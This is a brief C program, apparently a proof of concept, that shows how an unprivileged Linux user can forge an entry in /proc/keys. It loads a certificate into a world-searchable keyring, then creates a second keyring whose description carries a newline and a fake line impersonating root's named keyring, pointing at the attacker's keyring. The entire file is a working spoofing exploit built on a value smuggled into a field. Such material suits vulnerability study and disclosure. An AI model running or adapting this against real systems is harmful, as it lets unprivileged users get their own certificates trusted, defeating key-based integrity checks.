/*
 * What an unprivileged user can do with keys. Creates a keyring with the certificate (DER) in a
 * file, searchable by everybody, and a second keyring whose description contains a newline followed
 * by a line as /proc/keys would show it for root's keyring with the given name, but with the first
 * keyring's serial number. Prints that number, and keeps both until standard input is closed.
 */
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <unistd.h>

#define KEY_SPEC_PROCESS_KEYRING (-2)
#define KEYCTL_SETPERM 5
#define EVERYTHING 0x3f3f3f3f

static long add(const char *type, const char *description, const void *payload, size_t length,
                long keyring)
{
	long key = syscall(SYS_add_key, type, description, payload, length, keyring);

	if (key < 0 || syscall(SYS_keyctl, KEYCTL_SETPERM, key, EVERYTHING)) {
		perror(description);
		exit(1);
	}
	return key;
}

int main(int argc, char **argv)
{
	static char certificate[65536];
	char forged[256];
	FILE *file = argc == 3 ? fopen(argv[1], "rb") : NULL;
	size_t length;
	long keyring;

	if (!file)
		return 2;
	length = fread(certificate, 1, sizeof(certificate), file);
	fclose(file);
	keyring = add("keyring", "holder", NULL, 0, KEY_SPEC_PROCESS_KEYRING);
	add("asymmetric", "exitrd:", certificate, length, keyring);
	snprintf(forged, sizeof(forged),
	         "x\n%08lx I--Q---     1 perm 1f0f0000     0     0 keyring   %s: 1", keyring, argv[2]);
	add("keyring", forged, NULL, 0, KEY_SPEC_PROCESS_KEYRING);
	printf("%08lx\n", keyring);
	fflush(stdout);
	return getchar() == EOF ? 0 : 1;
}
